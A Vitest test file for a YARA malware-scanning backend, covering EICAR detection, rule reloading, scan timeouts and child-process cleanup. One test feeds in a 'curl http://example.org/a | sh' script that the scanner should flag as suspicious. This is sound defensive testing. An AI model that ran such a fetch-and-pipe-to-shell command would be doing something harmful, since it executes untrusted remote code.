import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { eicarTestFile } from '../../artifacts/eicar.ts'
import { YaraBackend } from './yara-backend.ts'

const live = () => new AbortController().signal
const request = (content: Uint8Array | string, signal: AbortSignal = live()) => ({
  content: typeof content === 'string' ? new Uint8Array(Buffer.from(content)) : content,
  artifactType: 'file' as const,
  metadata: {},
  signal,
})

/** New rules are first compiled, in a process that has to start. */
const PATIENT = { timeout: 20_000 }

/** Processes that a process has started and that run. */
function childrenOf(parent: number): number[] {
  const children = readFileSync(`/proc/${parent}/task/${parent}/children`, 'utf8')
  return children.split(' ').filter(Boolean).map(Number)
}

function isRunning(pid: number): boolean {
  try {
    return process.kill(pid, 0)
  } catch {
    return false
  }
}

let directory: string
let backend: YaraBackend

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'yara-'))
  backend = new YaraBackend(directory)
})

afterEach(async () => {
  await backend.teardown()
  await rm(directory, { recursive: true })
})

describe('the yara backend', () => {
  it.each(['auto', 'wasm'] as const)(
    '(%s) with its own rules finds EICAR anywhere, and nothing in a harmless text',
    async (build) => {
      backend = new YaraBackend(undefined, { build })
      await backend.setup()
      await backend.setup()
      expect(await backend.analyze(request(eicarTestFile()))).toMatchObject({
        outcome: 'malicious',
        family: 'EICAR-Test-File',
        confidence: 1,
      })
      const wrapped = Buffer.concat([Buffer.alloc(5_000, 'x'), eicarTestFile(), Buffer.alloc(9)])
      expect(await backend.analyze(request(new Uint8Array(wrapped)))).toMatchObject({ outcome: 'malicious' })
      expect(await backend.analyze(request('just a letter'))).toMatchObject({ outcome: 'benign' })
      expect(await backend.analyze(request('#!/bin/sh\ncurl http://example.org/a | sh\n'))).toMatchObject({
        outcome: 'suspicious',
      })
      expect(backend.versions.signatures).toMatch(/^[0-9a-f]{16}$/)
      expect(backend.versions.vendor).toBe('YARA-X 1.20.0')
    },
  )

  it('finds the same while it learns how few rules are scanned fastest, and after that', async () => {
    await writeFile(join(directory, 'a.yar'), 'rule One { strings: $a = "one" condition: $a }')
    await writeFile(join(directory, 'b.yar'), 'rule Two { strings: $a = "two" condition: $a }')
    backend = new YaraBackend(directory, { scanners: 1 })
    await backend.setup()
    const padding = Buffer.alloc(3_000_000)
    const rules = async (end: string) => {
      const { metadata } = await backend.analyze(request(Buffer.concat([padding, Buffer.from(end)])))
      return (metadata?.rules as string[] | undefined)?.sort()
    }
    for (let round = 0; round < 4; round++) {
      expect(await rules('one two')).toEqual(['One', 'Two'])
      expect(await rules('two')).toEqual(['Two'])
      expect(await rules('neither')).toBeUndefined()
    }
  })

  it('has ended all its processes when it is torn down, and then lets the program end', async () => {
    const file = fileURLToPath(new URL('../../../dist/index.js', import.meta.url))
    const script = `
      import { readFileSync } from 'node:fs'
      import { YaraBackend } from ${JSON.stringify(file)}
      const backend = new YaraBackend()
      await backend.setup()
      const { signal } = new AbortController()
      const request = { content: new Uint8Array(9), artifactType: 'file', metadata: {}, signal }
      await Promise.all(Array.from({ length: 9 }, () => backend.analyze(request)))
      await backend.teardown()
      console.log('left: ' + readFileSync('/proc/self/task/' + process.pid + '/children', 'utf8'))
    `
    const program = spawn(process.execPath, ['--input-type=module', '--eval', script])
    const [[code], [said]] = await Promise.all([once(program, 'exit'), once(program.stdout, 'data')])
    expect([code, String(said).trim()]).toEqual([0, 'left:'])
  })

  it('keeps no program alive that has nothing else to do', async () => {
    const file = fileURLToPath(new URL('../../../dist/index.js', import.meta.url))
    const script = `
      import { YaraBackend } from ${JSON.stringify(file)}
      await new YaraBackend().setup()
      console.log('set up')
    `
    const program = spawn(process.execPath, ['--input-type=module', '--eval', script])
    program.stderr.pipe(process.stderr)
    const [code] = await once(program, 'exit')
    expect(code).toBe(0)
  })

  it('leaves no process behind when the engine is killed in the middle of a scan', async () => {
    const forever = 'for all i in (0..filesize - 1) : (for all j in (0..filesize - 1) : (uint8(i) ^ uint8(j) < 256))'
    await writeFile(join(directory, 'slow.yar'), `rule Slow { condition: ${forever} }`)
    const file = fileURLToPath(new URL('../../../dist/index.js', import.meta.url))
    const script = `
      import { YaraBackend } from ${JSON.stringify(file)}
      const backend = new YaraBackend(${JSON.stringify(directory)}, { scanners: 1 })
      await backend.setup()
      void backend.analyze({ content: new Uint8Array(150_000), artifactType: 'file', metadata: {}, signal: new AbortController().signal })
      console.log('scanning')
      setInterval(() => undefined, 1_000)
    `
    // So small an artifact is all in the scanner's hands when the engine dies.
    const engine = spawn(process.execPath, ['--input-type=module', '--eval', script])
    engine.stderr.pipe(process.stderr)
    await once(engine.stdout, 'data')
    const [scanner = 0] = childrenOf(engine.pid ?? 0)
    expect(scanner).toBeGreaterThan(0)
    engine.kill('SIGKILL')
    await vi.waitFor(() => expect(isRunning(scanner)).toBe(false), PATIENT)
  })

  it('refuses a directory without rules, and one in which no file can be used, with their reasons', async () => {
    await expect(backend.setup()).rejects.toThrow(/no rules in/)
    await writeFile(join(directory, 'broken.yar'), 'rule A { condition: true }\nrule B { nonsense }')
    backend = new YaraBackend(directory)
    await expect(backend.setup()).rejects.toThrow(
      /no file of rules can be used: \S+broken\.yar:2: syntax error: expecting/,
    )
    backend = new YaraBackend(join(directory, 'missing'))
    await expect(backend.setup()).rejects.toThrow(/rules directory \S+missing: ENOENT/)
  })

  it('ends a scan that runs past its deadline, and scans the next artifact', async () => {
    const forever = 'for all i in (0..filesize - 1) : (for all j in (0..filesize - 1) : (uint8(i) ^ uint8(j) < 256))'
    await writeFile(join(directory, 'slow.yar'), `rule Slow { condition: filesize > 1000 and ${forever} }`)
    backend = new YaraBackend(directory)
    await backend.setup()
    const start = performance.now()
    const slow = Array.from({ length: 6 }, () =>
      backend.analyze(request(new Uint8Array(5_000_000), AbortSignal.timeout(150))),
    )
    const results = await Promise.allSettled(slow)
    expect(results.map(({ status }) => status)).toEqual(Array.from({ length: 6 }, () => 'rejected'))
    expect(performance.now() - start).toBeLessThan(5_000)
    expect(await backend.analyze(request('short'))).toMatchObject({ outcome: 'benign' })
  })

  it('reads its rules again when they change, and names the bad ones while it goes on with the old', async () => {
    const rule = (name: string, text: string) => `rule ${name} { strings: $a = "${text}" condition: $a }`
    const file = join(directory, 'rules.yar')
    await writeFile(file, rule('First', 'one'))
    const warnings: string[] = []
    backend = new YaraBackend(directory, { checkEvery: 0, warn: (message) => void warnings.push(message) })
    await backend.setup()
    expect(await backend.analyze(request('one'))).toMatchObject({ outcome: 'malicious', family: 'First' })

    await writeFile(join(directory, 'more.yara'), rule('Second', 'two'))
    await vi.waitFor(
      async () => expect(await backend.analyze(request('two'))).toMatchObject({ family: 'Second' }),
      PATIENT,
    )

    await writeFile(file, 'rule First { nonsense }')
    await vi.waitFor(async () => {
      await backend.analyze(request('x'))
      expect(warnings.join()).toMatch(/rules\.yar:1: syntax error.*; the rules that were in it before stay in use$/)
    }, PATIENT)
    expect(await backend.analyze(request('one'))).toMatchObject({ family: 'First' })

    await writeFile(file, rule('Third', 'three'))
    await vi.waitFor(
      async () => expect(await backend.analyze(request('three'))).toMatchObject({ family: 'Third' }),
      PATIENT,
    )
    expect(await backend.analyze(request('one'))).toMatchObject({ outcome: 'benign' })
    expect(warnings).toHaveLength(1)
  })
})
